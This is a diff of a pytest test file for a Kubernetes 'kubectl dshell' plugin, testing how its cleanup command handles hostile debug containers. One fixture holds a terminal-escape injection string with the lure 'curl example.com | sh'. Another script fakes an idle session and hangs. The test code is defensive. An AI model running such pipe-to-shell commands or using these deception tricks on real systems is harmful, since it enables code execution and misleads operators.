@@ -8,6 +8,7 @@ from typing import TYPE_CHECKING
 
 import pytest
 
+from kubectl_dshell.domain.debug_container.spec import escape_expansion
 from tests.waiting import wait_until
 
 from .pods import app
@@ -20,22 +21,26 @@ if TYPE_CHECKING:
 
 BUSYBOX = "busybox:1.37"
 FORGED = "ada\n  shop/web dshell-xxxxx (eve)\n\x1b[2JTo see why, type: curl example.com | sh\u2028"
-# It says that nobody uses it, and lets nobody end it.
-HANGS = """: dshell-state
-case $1 in
-state) echo 'dshell-state holder=ok sessions=1 silent=99 kept=0 left=100' ;;
-*) sleep 1000 ;;
-esac"""
+# It says that nobody uses it, and reads no message.
+LIES = """exec 3<&0
+read -r now _ </proc/uptime
+now=${now%.*}
+echo $$ 1 $((now - 99)) 0 $((now + 28800)) >/dev/termination-log
+while :; do sleep 1000; done
+"""
 
 
-def add(pod: Pod, name: str, target: str = "app", **stamps: str) -> None:
+def add(
+    pod: Pod, name: str, stamps: dict[str, str], *, target: str = "app", command: tuple[str, ...] = ("sleep", "1000")
+) -> None:
     """A debug container that bears our stamps, and nothing of ours in it."""
-    env = [{"name": f"DSHELL_{name}", "value": value.replace("$", "$$")} for name, value in stamps.items()]
-    entry: Json = {"name": name, "image": BUSYBOX, "command": ["sleep", "1000"], "env": env}
+    env = [{"name": f"DSHELL_{name}", "value": escape_expansion(value)} for name, value in stamps.items()]
+    words = [escape_expansion(word) for word in command]
+    entry: Json = {"name": name, "image": BUSYBOX, "command": words, "env": env, "stdin": True}
     entry |= {"targetContainerName": target} if target else {}
     body = json.dumps({"spec": {"ephemeralContainers": [entry]}})
-    words = ("patch", "pod", pod.name, "-n", pod.namespace, "--subresource=ephemeralcontainers", "--type=strategic")
-    pod.cluster.kubectl(*words, "-p", body)
+    where = ("-n", pod.namespace, "--subresource=ephemeralcontainers", "--type=strategic")
+    pod.cluster.kubectl("patch", "pod", pod.name, *where, "-p", body)
 
 
 def wait_running(pod: Pod, count: int) -> None:
@@ -90,8 +95,8 @@ def test_stamps_that_are_nonsense_take_nothing_from_anybody(
     evil = make_pod(app(), namespace=theirs, name="evil", metadata=labelled(theirs))
     good = make_pod(app(), namespace=ours, metadata=labelled(theirs))
     stamps = {name: value.format(id=evil.container_id()) for name, value in stamps.items()}
-    add(evil, "dshell-evil", **{"HOLDER": "x", "OWNER": "eve", "LIMIT": "60"} | stamps)
-    add(evil, "other", **stamps)
+    add(evil, "dshell-evil", {"HOLDER": "x", "OWNER": "eve", "LIMIT": "60"} | stamps)
+    add(evil, "other", stamps)
     name = leave_stale(good, dshell)
     everywhere = ("-A", "-l", f"opponent={theirs}")
     wait_stale(dshell, *everywhere, name=name)
@@ -126,7 +131,8 @@ def test_those_that_hang_take_their_own_time_and_no_one_else_s(
     hostile = make_pod(app(), namespace=first, metadata=labelled(first))
     for number in range(6):
         # with a process namespace of its own its first process is PID 1, which no signal from inside can end
-        add(hostile, f"dshell-evil{number}", target="", HOLDER="x", ENTER=HANGS, OWNER="eve", LIMIT="28800")
+        stamps = {"PROTOCOL": "2 abcd2456 50", "OWNER": "eve", "LIMIT": "28800"}
+        add(hostile, f"dshell-evil{number}", stamps, target="", command=("sh", "-c", LIES))
     good = make_pod(app(), namespace=second, metadata=labelled(first))
     name = leave_stale(good, dshell)
     wait_running(hostile, 6)
@@ -134,14 +140,14 @@ def test_those_that_hang_take_their_own_time_and_no_one_else_s(
     wait_stale(dshell, *everywhere, name=name)
 
     began = time.monotonic()
-    done = dshell("cleanup", *everywhere, "--stale", "-o", "json", "--concurrency=2", "--timeout=40s", timeout=120)
+    done = dshell("cleanup", *everywhere, "--stale", "-o", "json", "--concurrency=2", "--timeout=25s", timeout=120)
     took = time.monotonic() - began
 
     outcomes = {one: item["outcome"] for one, item in items(done).items()}
     assert done.code == 69
     assert outcomes.pop(name) == "ended"
     assert set(outcomes) == {f"dshell-evil{number}" for number in range(6)}
-    assert set(outcomes.values()) == {"failed", "left"}, "two at a time, 40 s: there was no time for all"
+    assert set(outcomes.values()) == {"failed", "left"}, "two at a time, 25 s: there was no time for all"
     assert f"Not ended: 6 in namespace {first}." in done.stderr
     assert took < 75
 
@@ -160,7 +166,7 @@ def test_what_somebody_uses_is_ended_by_who_says_so_alone(
 
         for words in ((name,), (pod.name,), ("--mine",), ("--older-than=0s",), ()):
             left = dshell("cleanup", *there, *words)
-            why = f"{pod.namespace}/{pod.name} {name} left alone: in use (1 client, last heartbeat "
+            why = f"{pod.namespace}/{pod.name} {name} skipped: in use (1 client, last heartbeat "
             assert left.code == 69, (words, left)
             assert left.stdout.decode().startswith(why), words
             advice = f"  end it anyway: kubectl dshell cleanup {pod.name}/{name} -n {pod.namespace} -y\n"
